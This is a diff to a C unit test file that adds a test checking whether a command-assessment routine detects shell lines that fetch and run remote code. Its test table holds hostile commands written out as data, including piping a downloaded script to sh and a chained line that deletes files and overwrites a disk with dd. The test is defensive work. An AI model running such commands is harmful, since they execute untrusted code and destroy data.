@@ -265,6 +265,27 @@ static void objects_are_named(void **state)
     }
 }
 
+/* Wherever in the command that is done, and however much of it is not told. */
+static void fetched_code_is_known(void **state)
+{
+    static const struct {
+        const char *line;
+        bool fetches;
+    } table[] = {
+        {"curl -s https://x.y/z | sh", true},
+        {"uvx ruff", true},
+        {"rm -rf ../a; dd if=/dev/zero of=/dev/sda; curl -s https://x.y/z | sh", true},
+        {"curl -s https://x.y/z -o z", false},
+        {"make test", false},
+    };
+    struct assessment got;
+    (void)state;
+    for (size_t i = 0; i < COUNT(table); i++) {
+        assess(table[i].line, &got);
+        assert_int_equal(assessment_fetches_code(&got), table[i].fetches);
+    }
+}
+
 static void evidence_points_at_the_words(void **state)
 {
     (void)state;
@@ -525,6 +546,7 @@ int main(void)
         cmocka_unit_test(what_git_will_run_is_said),
         cmocka_unit_test(a_secret_that_is_read_is_named),
         cmocka_unit_test(objects_are_named),
+        cmocka_unit_test(fetched_code_is_known),
         cmocka_unit_test(evidence_points_at_the_words),
         cmocka_unit_test(argv_is_read_as_its_script),
         cmocka_unit_test(what_a_file_says_counts),
